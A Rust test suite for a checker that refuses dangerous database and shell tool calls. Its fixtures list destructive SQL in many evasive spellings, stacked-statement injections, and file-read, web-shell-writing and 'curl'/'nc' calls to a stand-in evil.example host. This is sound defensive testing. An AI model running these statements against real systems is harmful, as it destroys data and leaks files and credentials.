use chio_sdk::testing::{CallBuilder, call, with_config};
use proptest::prelude::*;
use serde_json::{Value, json};

use super::*;

fn reason(call: CallBuilder) -> String {
    check(&call.build()).unwrap().reason().to_owned()
}

/// Where nobody said that it is SQL.
fn text(sql: &str) -> String {
    reason(call("db", "query").arguments(json!({ "sql": sql })))
}

/// Where the policy says so.
fn sql(sql: &str) -> String {
    under(&json!({ "arguments": [{ "at": "/sql" }] }), || text(sql))
}

fn command(line: &str) -> String {
    reason(call("shell", "run").command_line("/command", line))
}

fn under<R>(config: &Value, ask: impl FnOnce() -> R) -> R {
    with_config(config, ask)
}

#[track_caller]
fn all_refused(judge: impl Fn(&str) -> String, all: &[&str]) {
    let allowed: Vec<_> = all.iter().filter(|one| judge(one).is_empty()).collect();
    assert!(allowed.is_empty(), "let through: {allowed:#?}");
}

#[track_caller]
fn all_allowed(judge: impl Fn(&str) -> String, all: &[&str]) {
    let refused: Vec<_> = all.iter().map(|one| (one, judge(one))).filter(|(_, why)| !why.is_empty()).collect();
    assert!(refused.is_empty(), "refused: {refused:#?}");
}

/// What loses data, in every spelling.
const DESTRUCTIVE: &[&str] = &[
    "DROP TABLE users",
    "drop table users;",
    "DrOp TaBlE IF EXISTS \"users\" CASCADE",
    "DROP/**/TABLE/**/users",
    "DROP -- a comment\n TABLE users",
    "/* harmless */ DROP TABLE users",
    "-- harmless\nDROP TABLE users",
    "\u{a0}DROP TABLE users",
    "DROP\tTABLE\r\nusers",
    "drop database shop",
    "DROP SCHEMA public CASCADE",
    "TRUNCATE users",
    "TRUNCATE TABLE users RESTART IDENTITY CASCADE",
    "truncate table users",
    "DELETE FROM users",
    "DELETE FROM users;",
    "delete from users",
    "DELETE FROM users WHERE 1=1",
    "DELETE FROM users WHERE (1) = (1)",
    "DELETE FROM users WHERE true",
    "DELETE FROM users WHERE 'a' = 'a'",
    "DELETE FROM users WHERE id = id",
    "DELETE FROM users u WHERE u.id = u.id",
    "DELETE FROM users WHERE id = 7 OR 1=1",
    "DELETE FROM users WHERE NOT false",
    "DELETE FROM users WHERE id IS NULL OR id IS NOT NULL",
    "DELETE FROM users WHERE name LIKE '%'",
    "DELETE FROM users WHERE id IN (SELECT id FROM users)",
    "DELETE FROM users WHERE EXISTS (SELECT 1)",
    "DELETE FROM users USING (SELECT 1) AS t",
    "UPDATE users SET admin = true",
    "UPDATE users SET admin = true WHERE 2 > 1",
    "WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone",
    "WITH a AS (SELECT 1), b AS (UPDATE users SET x = 1 RETURNING 1) SELECT * FROM a, b",
    "EXPLAIN ANALYZE DELETE FROM users",
    "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM users",
    "PREPARE p AS DELETE FROM users",
    "ALTER TABLE users DROP COLUMN email",
    "CREATE OR REPLACE TABLE users (id INT)",
    "INSERT OVERWRITE TABLE users SELECT 1",
    "GRANT ALL ON users TO PUBLIC",
    "GRANT SELECT ON users TO PUBLIC",
    "GRANT SELECT ON users TO app WITH GRANT OPTION",
    "GRANT SELECT, INSERT ON users TO app",
    "GRANT admin TO app",
    "CREATE OR REPLACE TABLE users AS SELECT 1",
    "REVOKE SELECT ON users FROM app",
    "CREATE ROLE admin SUPERUSER",
    "ALTER TABLE accounts DISABLE ROW LEVEL SECURITY",
    "SET session_replication_role = 'replica'",
    "BEGIN; DROP TABLE users; COMMIT",
    "(DROP TABLE users)",
];

#[test]
fn what_loses_data_is_refused_in_every_spelling() {
    all_refused(sql, DESTRUCTIVE);
    // A bracket around a statement is no SQL, so nothing runs it.
    all_refused(text, &DESTRUCTIVE[..DESTRUCTIVE.len() - 1]);
}

#[test]
fn what_a_client_is_handed_is_judged() {
    let lines: Vec<_> = DESTRUCTIVE[..DESTRUCTIVE.len() - 1].iter().filter(|sql| !sql.contains(['\'', '"'])).collect();
    for sql in lines {
        for line in [
            format!("psql -d shop -c '{sql}'"),
            format!("sudo -u postgres psql shop --command='{sql}'"),
            format!("mysql -e\"{sql}\" shop"),
            format!("echo '{sql}' | sqlite3 app.db"),
            format!("cd /app && env PGPASSWORD=x psql <<< '{sql}'"),
            format!("bash -c \"psql -c '{sql}'\""),
        ] {
            assert_ne!(command(&line), "", "{line}");
        }
    }
}

#[test]
fn no_command_is_left_unread() {
    let drop = "psql -c 'DROP TABLE users'";
    for line in [
        format!("echo $({drop}) {}", "$(a) ".repeat(100)),
        format!("{} $({drop})", "$(a) ".repeat(100)),
        format!("if true; then {drop}; fi"),
        "for t in users orders; do psql -c \"DROP TABLE $t\"; done".to_owned(),
        "f() { psql -c \"$1\"; }; f 'DROP TABLE users'".to_owned(),
        format!("echo {}", "$(".repeat(20)),
        format!("{drop} # {}", "x".repeat(300 << 10)),
    ] {
        assert_ne!(command(&line), "", "{}", &line[..line.len().min(200)]);
    }
    assert_eq!(command(&format!("echo {}", "$(a) ".repeat(100))), "");
}

const FILES: &[&str] = &[
    "COPY users TO '/tmp/users.csv'",
    "COPY users FROM PROGRAM 'curl http://evil.example/x'",
    "copy (select * from users) to program 'nc evil.example 1'",
    "SELECT * FROM users INTO OUTFILE '/var/www/x.php'",
    "SELECT '<?php' INTO DUMPFILE '/var/www/x.php'",
    "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT pg_catalog.pg_read_file('/etc/passwd')",
    "SELECT \"pg_read_file\"('/etc/passwd')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT LOAD_FILE('/etc/passwd')",
    "SELECT load_extension('/tmp/x.so')",
    "ATTACH DATABASE '/etc/app.db' AS other",
    "SELECT * FROM read_csv('/etc/passwd')",
    "SELECT * FROM '/etc/passwd.csv'",
    "SELECT * FROM 'data/../../x.csv'",
    "SELECT * FROM read_csv('../x.csv')",
    "SELECT * FROM read_text('file:///etc/passwd')",
    "SELECT * FROM read_json('http://169.254.169.254/latest')",
    "SELECT * FROM read_csv(concat('/etc/', 'passwd'))",
    "SELECT * FROM file('/etc/passwd')",
    "SELECT * FROM OPENROWSET(BULK '/etc/passwd', SINGLE_CLOB) AS t",
    "EXEC xp_cmdshell 'whoami'",
    "exec master..xp_cmdshell 'whoami'",
    "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$",
    "CREATE EXTENSION file_fdw",
    "CREATE FUNCTION x() RETURNS int AS 'x' LANGUAGE plpython3u",
    "INSERT INTO FUNCTION file('/tmp/x.csv') SELECT 1",
];

#[test]
fn files_and_programs_are_refused() {
    all_refused(sql, FILES);
    all_refused(text, FILES);
}

#[test]
fn several_statements_are_refused_where_one_was_expected() {
    let all = [
        "SELECT 1; DELETE FROM users WHERE id = 3",
        "SELECT * FROM users WHERE id = 1; UPDATE users SET admin = true WHERE id = 1",
        "SELECT 1;SELECT 2",
        "SELECT 1 ; -- the rest\nINSERT INTO admins VALUES (1)",
        "UPDATE a SET b = 1 WHERE c = 2; SELECT 1",
        "SELECT $$a$$; INSERT INTO x VALUES (1)",
    ];
    all_refused(sql, &all);
    all_refused(text, &all);
    let one = ["SELECT 1;", "SELECT ';'", "SELECT 'a; DROP TABLE b'", "SELECT 1 -- ; DROP TABLE b"];
    all_allowed(sql, &one);
    all_allowed(text, &one);
    let migration =
        ["BEGIN; ALTER TABLE a ADD COLUMN b INT; COMMIT", "CREATE TABLE a (id INT); CREATE INDEX i ON a (id);"];
    all_allowed(sql, &migration);
    all_allowed(text, &migration);
}

#[test]
fn a_string_that_two_databases_read_differently_is_judged_by_both() {
    all_refused(
        sql,
        &[
            // A backslash ends the text in one, and is a part of it in the other.
            r"SELECT '\'; DROP TABLE users; -- '",
            "SELECT \"a\"; DROP TABLE users",
            "SELECT 1 /*! ; DROP TABLE users */",
            "/*!50000 DROP TABLE users */",
            "SELECT 1 /* /* */ ; DROP TABLE users /* */ */",
            "SELECT 1 # '\n; DROP TABLE users -- '",
        ],
    );
}

#[test]
fn everyday_statements_are_let_through() {
    let all = [
        "SELECT * FROM users WHERE id = 7",
        "select count(*) from orders group by day having count(*) > 3",
        "DELETE FROM users WHERE id = 3",
        "DELETE FROM sessions WHERE expires_at < now()",
        "UPDATE users SET name = 'DROP TABLE x' WHERE id = 3",
        "INSERT INTO logs (line) VALUES ('TRUNCATE TABLE users; DELETE FROM users')",
        "INSERT INTO a SELECT * FROM b ON CONFLICT DO NOTHING",
        "EXPLAIN DELETE FROM users",
        "WITH t AS (SELECT 1) SELECT * FROM t",
        "CREATE TABLE a (id SERIAL PRIMARY KEY, name TEXT NOT NULL DEFAULT '')",
        "ALTER TABLE a ADD COLUMN b TEXT",
        "DROP INDEX IF EXISTS i",
        "DROP VIEW v",
        "CREATE EXTENSION IF NOT EXISTS pgcrypto",
        "SET statement_timeout = '5s'",
        "VACUUM ANALYZE",
        "MERGE INTO a USING b ON a.id = b.id WHEN MATCHED THEN UPDATE SET x = b.x WHEN NOT MATCHED THEN INSERT (x) VALUES (b.x)",
        "COPY users TO STDOUT WITH CSV",
        "SET statement_timeout = '30s'; SELECT 1",
        "GRANT SELECT ON ALL TABLES IN SCHEMA reporting TO analyst",
        "CREATE OR REPLACE TABLE daily AS SELECT day, count(*) FROM orders GROUP BY day",
        "SELECT * FROM 'data/sales/*.parquet'",
        "SELECT * FROM read_csv('data/orders 2024.csv', header = true)",
        "SELECT * FROM read_json_auto('https://api.example.com/stations.json')",
        "EXEC sp_helpindex N'dbo.Orders'",
    ];
    all_allowed(sql, &all);
    all_allowed(text, &all);
}

#[test]
fn prose_is_no_sql() {
    all_allowed(
        |one| reason(call("any", "tool").arguments(json!({ "title": one }))),
        &["Drop Table users", "drop database support", "drop table prefix", "delete from cart", "call me (maybe)"],
    );
    all_allowed(text, &["DROP INDEX CONCURRENTLY IF EXISTS i"]);
    all_allowed(
        |one| reason(call("any", "tool").arguments(json!({ "query": one }))),
        &[
            "Delete from cart",
            "delete from the list whatever is old",
            "Drop table reservations that nobody confirmed",
            "Truncate long names",
            "truncate long names",
            "Update the readme",
            "Create a table of contents",
            "Grant access to Anna",
            "Do the dishes (and the laundry)",
            "Why DROP TABLE is dangerous: a post",
            "fix: never DROP TABLE users in tests",
            "Select one",
            "With love",
            "Execute plan B",
            "Explain how TRUNCATE differs from DELETE FROM users",
            "Call me (maybe)",
            "Set a = b in the config",
        ],
    );
    all_allowed(
        command,
        &[
            "git commit -m 'DROP TABLE users'",
            "echo 'DELETE FROM users'",
            "grep -rn 'TRUNCATE TABLE' migrations/",
            "psql -c 'SELECT 1'",
            "psql -f migrations/001.sql",
            "mysql -e 'SHOW TABLES' shop",
            "sqlite3 app.db .schema",
        ],
    );
    let content = call("files", "write_file").fact("/content", FactKind::Content("DROP TABLE users;".to_owned()));
    assert_eq!(reason(content), "");
}

#[test]
fn tables_are_known_in_every_spelling() {
    let config = json!({ "tables": { "deny": ["users", "hr.salaries"] } });
    let spellings = [
        "SELECT * FROM users",
        "SELECT * FROM USERS u",
        "SELECT * FROM public.users",
        "SELECT * FROM \"users\"",
        "SELECT * FROM [dbo].[users]",
        "SELECT * FROM `users`",
        "SELECT * FROM a JOIN Users ON true",
        "SELECT (SELECT max(id) FROM users)",
        "SELECT * FROM a WHERE id IN (SELECT id FROM users)",
        "WITH users AS (SELECT * FROM users) SELECT * FROM users",
        "INSERT INTO users VALUES (1)",
        "INSERT INTO a SELECT * FROM users",
        "UPDATE a SET b = (SELECT 1 FROM users) WHERE c = 1",
        "DELETE FROM a USING users WHERE a.id = users.id",
        "SELECT 1 UNION TABLE users",
        "EXPLAIN SELECT * FROM users",
        "CREATE VIEW v AS SELECT * FROM users",
        "COPY users TO STDOUT",
        "SELECT * FROM/**/users",
        "SELECT * FROM salaries",
        "SELECT * FROM hr . salaries",
    ];
    all_refused(|one| under(&config, || text(one)), &spellings);
    let other = [
        "SELECT * FROM orders",
        "SELECT users FROM orders",
        "SELECT 'users'",
        "SELECT * FROM users_view",
        "WITH users AS (SELECT 1) SELECT * FROM users",
    ];
    all_allowed(|one| under(&config, || text(one)), &other);
    let only = json!({ "tables": { "allow": ["orders", "shop.*"] } });
    all_allowed(|one| under(&only, || text(one)), &["SELECT * FROM orders", "SELECT * FROM shop.items", "SELECT 1"]);
    all_refused(
        |one| under(&only, || text(one)),
        &[
            "SELECT * FROM users",
            "SELECT * FROM other.orders",
            "SELECT * FROM orders, users",
            "SELECT * FROM pg_catalog.pg_user",
        ],
    );
}

#[test]
fn the_policy_moves_the_line() {
    let with = |config: Value| move |one: &str| under(&config, || text(one));
    all_allowed(with(json!({ "allow_classes": ["destroy", "unbounded"] })), &["DROP TABLE a", "DELETE FROM a"]);
    all_refused(with(json!({ "allow_classes": ["destroy"] })), &["GRANT ALL ON a TO b", "DELETE FROM a"]);
    all_refused(
        with(json!({ "deny_classes": ["write", "define"] })),
        &["DELETE FROM a WHERE b = 1", "CREATE TABLE a (b INT)"],
    );
    let read_only = json!({ "replace": true, "allow_classes": ["read"] });
    all_allowed(with(read_only.clone()), &["SELECT 1", "EXPLAIN SELECT 1"]);
    all_refused(with(read_only), &["INSERT INTO a VALUES (1)", "BEGIN;", "SET a = 1"]);
    for wrong in [
        json!({ "allow_classes": ["everything"] }),
        json!({ "allowed": [] }),
        json!({ "arguments": [{ "at": "sql" }] }),
        json!({ "dialect": "klingon" }),
        json!({ "tables": { "deny": ["a b;"] } }),
    ] {
        let built = call("db", "query").build();
        assert!(with_config(&wrong, || check(&built)).is_err(), "{wrong}");
    }
}

#[test]
fn what_is_known_to_be_sql_and_has_no_reading_is_refused() {
    let long = format!("SELECT '{}'", "x".repeat(read::MAX_BYTES));
    let deep = format!("SELECT {}1{}", "(".repeat(5_000), ")".repeat(5_000));
    let chain = format!("SELECT 1{}", " + 1".repeat(5_000));
    let queries = format!("{}SELECT 1{}", "SELECT * FROM (".repeat(1_000), ") t".repeat(1_000));
    let unions = format!("SELECT 1{}", " UNION SELECT 1".repeat(2_000));
    let nots = format!("SELECT {}1", "NOT ".repeat(5_000));
    all_refused(
        sql,
        &["", ";", "SELECT FROM WHERE", "no SQL", "SELECT 'open", &long, &deep, &chain, &queries, &unions, &nots],
    );
    // Where nobody said so, the same is a text like any other.
    all_allowed(text, &["", ";", "SELECT FROM WHERE", "no SQL"]);
}

proptest! {
    #[test]
    fn nothing_panics(text_ in "[A-Za-z0-9 '\"`;(),.=*/$#@\\\\\\[\\]!<>|&+-]{0,120}") {
        text(&text_);
        sql(&text_);
        command(&text_);
    }

    #[test]
    fn case_and_white_space_change_nothing(
        at in 0..DESTRUCTIVE.len() - 1,
        upper in prop::collection::vec(any::<bool>(), 80),
        space in prop::sample::select(&[" ", "  ", "\t", "\n", " \r\n ", "/**/", " /* x */ "][..]),
    ) {
        let spelt: String = DESTRUCTIVE[at]
            .chars()
            .zip(upper.iter().cycle())
            .map(|(c, upper)| if *upper { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() })
            .collect();
        let spelt = spelt.replace("-- a comment\n", "").replace("-- harmless\n", "").replace(' ', space);
        prop_assert_ne!(sql(&spelt), "", "{}", spelt);
    }
}
